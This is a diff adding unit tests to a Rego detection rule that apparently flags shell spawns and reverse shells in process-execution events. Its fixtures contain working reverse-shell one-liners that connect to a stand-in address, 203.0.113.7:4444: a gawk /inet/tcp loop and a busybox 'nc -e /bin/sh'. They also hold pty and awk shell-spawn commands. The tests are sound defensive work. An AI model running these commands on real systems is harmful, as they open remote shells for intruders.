@@ -60,3 +60,23 @@ test_python_http_client_is_not_matched if {
 	hits := rule.hits with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"])
 	count(hits) == 0
 }
+
+test_pty_spawn_of_a_shell if {
+	ev := fx.container_exec("/usr/bin/python3", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"])
+	rule.hits == {"python3 spawns a shell on a pty in container web (registry.example.com/shop/web:1.4.2): python3 -c import pty; pty.spawn('/bin/bash')"} with input as ev
+	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/python3", ["python3", "-c", "import pty; pty.spawn(['ls'])"])
+}
+
+test_awk_sockets_and_shells if {
+	inet := fx.host_exec("/usr/bin/gawk", ["gawk", "BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {s |& getline c; print c |& s}}"])
+	count(rule.hits) == 1 with input as inet
+	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/awk", ["awk", "BEGIN {system(\"/bin/sh\")}"])
+	count(rule.hits) == 1 with input as fx.container_exec("/bin/busybox", ["busybox", "awk", "BEGIN{system('sh -i')}"])
+	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{system(\"rm \" $1)}"])
+	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/awk", ["awk", "{print $1}", "/tmp/shell.log"])
+}
+
+test_busybox_nc_exec_is_a_reverse_shell if {
+	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
+	count(rule.hits) == 1 with input as ev
+}
